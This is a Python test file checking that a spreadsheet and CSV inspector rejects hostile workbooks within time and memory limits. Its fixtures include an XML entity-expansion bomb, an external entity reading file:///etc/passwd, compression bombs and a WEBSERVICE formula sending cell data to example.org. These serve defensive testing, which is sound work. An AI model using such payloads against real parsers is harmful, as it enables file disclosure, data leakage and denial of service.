"""Hostile and broken files: one clear line each, within seconds and bounded memory; nothing in them is run."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import plant_inputs as made
import pytest
from plant_inputs import Traits

SECONDS = 20.0  # of processor time in the child, on a machine that other work may share
MEGABYTES = 400.0  # beyond what it took before the file was opened

CHILD = """
import json, resource, sys, time
from pathlib import Path
import pandas
from prodkit.plant.checking import inspect
from prodkit.plant.sheets import fault_lines
peak = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1e3
before, start = peak(), time.process_time()
seen = inspect(Path(sys.argv[1]))
taken = time.process_time() - start
print(json.dumps([fault_lines(seen.faults), taken, peak() - before]))
"""


def read_in_a_child(path: Path) -> list[str]:
    """The lines about a file, read in a process of its own that is held to seconds and megabytes."""
    done = subprocess.run(
        [sys.executable, "-c", CHILD, str(path)], capture_output=True, text=True, check=True
    )
    lines, taken, grown = json.loads(done.stdout)
    assert taken < SECONDS
    assert grown < MEGABYTES
    return list(lines)


def grow(inside: str, before: str = "</sheetData>") -> Callable[[str, str], str]:
    """Put XML into the sheet of items."""
    return lambda part, text: text.replace(before, inside + before) if part.endswith("sheet2.xml") else text


def blank_rows() -> str:
    return "".join(f'<row r="{n}" spans="1:8" ht="15"/>' for n in range(4, 1_000_001))


def blank_cells() -> str:
    cells = "".join(f'<c r="{letter}?" s="1"/>' for letter in "ABCDEFGHIJ")
    return "".join(f'<row r="{n}">{cells.replace("?", str(n))}</row>' for n in range(4, 110_000))


def entities() -> str:
    grown = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    return f'<!DOCTYPE worksheet [<!ENTITY e0 "ha">{grown}]>'


STRAY = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
OUTSIDE = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize(
    ("change", "line"),
    [
        (lambda: grow(blank_rows()), ""),
        (
            lambda: grow(blank_cells()),
            "items: found too many blank cells with a format, wanted 1,000,000 at most",
        ),
        (lambda: grow(STRAY), "items: found a value in XFD1048576, wanted 200 columns at most"),
        (lambda: grow(" " * 120_000_000), "items: found 120 MB packed into 0.1 MB, wanted 1000 MB at most"),
        (lambda: grow("<x>" * 1_000_000), "items: found 3 MB packed into 0.0 MB, wanted 1000 MB at most"),
        (lambda: grow(entities(), "<worksheet"), "items: found a part that declares types or entities"),
        (lambda: grow(OUTSIDE, "<worksheet"), "items: found a part that declares types or entities"),
    ],
    ids=["a million blank rows", "blank cells", "stray cell", "bomb", "deep", "entities", "outside"],
)
def test_a_hostile_workbook(
    tmp_path: Path, change: Callable[[], Callable[[str, str], str]], line: str
) -> None:
    path = made.write(tmp_path / "plant.xlsx", change=change())
    lines = read_in_a_child(path)
    assert len(lines) == (1 if line else 0)
    assert "".join(lines).startswith(line)


def test_a_two_gigabyte_file_is_refused_by_its_size(tmp_path: Path) -> None:
    made.write(tmp_path / "plant.xlsx")
    for name in ("huge.xlsx", "items.csv"):
        with (tmp_path / name).open("wb") as file:
            file.truncate(2_000_000_000)  # sparse: it takes no room
    assert read_in_a_child(tmp_path / "huge.xlsx") == [
        "huge.xlsx: found 2,000 MB, wanted a file of 200 MB at most"
    ]
    assert "items: found 2,000 MB, wanted a file of 200 MB at most" in read_in_a_child(tmp_path)


def test_a_folder_that_is_large_in_all(tmp_path: Path) -> None:
    for name in ("about", "items", "demand"):
        with (tmp_path / f"{name}.csv").open("wb") as file:
            file.truncate(150_000_000)
    (line,) = read_in_a_child(tmp_path)
    assert line.endswith("found 450 MB of tables, wanted 200 MB at most")


def test_a_great_many_texts(tmp_path: Path) -> None:
    def change(part: str, text: str) -> str:
        more = "".join(f"<si><t>{n:x}</t></si>" for n in range(300_000))
        return text.replace("</sst>", more + "</sst>")

    assert read_in_a_child(made.write(tmp_path / "plant.xlsx", change=change)) == []
    path = made.write(
        tmp_path / "plant.xlsx",
        change=lambda _, text: text.replace("</sst>", " " * 110_000_000 + "</sst>"),
    )
    (line,) = read_in_a_child(path)
    assert line.startswith("plant.xlsx: found 110 MB packed into ")


def test_a_long_row_and_a_long_cell_in_a_csv_file(tmp_path: Path) -> None:
    for name, rows in made.TABLES.items():
        (tmp_path / f"{name}.csv").write_text("\n".join(",".join(map(str, row)) for row in rows))
    items = tmp_path / "items.csv"
    text = items.read_text().replace("True", "yes")
    (tmp_path / "demand.csv").write_text("week,item,quantity\n2025-12-22,cart,10\n")
    items.write_text(text + "\n" + "x," * 300_000)
    assert read_in_a_child(tmp_path) == ["items: found 300,000 columns, wanted 200 columns at most"]
    items.write_text(text + "\nbolt,Bolt,buy,pcs,1,1,1,1" + "," * 300)
    assert read_in_a_child(tmp_path) == []
    items.write_text(text + "\n" + "x" * 500_000)
    (line,) = read_in_a_child(tmp_path)
    assert line.startswith("items: found row 4 cannot be read (field larger than field limit (131072))")


def test_links_and_formulas_are_never_followed(tmp_path: Path) -> None:
    """A formula that calls out is text without a value; the link in every made workbook points outside and is left."""
    items = [list(row) for row in made.ITEMS]
    items[1][5] = made.Raw('<c r="{r}"><f>WEBSERVICE("http://example.org/"&amp;A1)</f></c>')
    path = made.write(tmp_path / "plant.xlsx", Traits(), made.TABLES | {"items": items})
    (line,) = read_in_a_child(path)
    assert line.startswith(
        'items!F2: found "=WEBSERVICE("http://example.org/"&A1)" (a formula without a stored value)'
    )
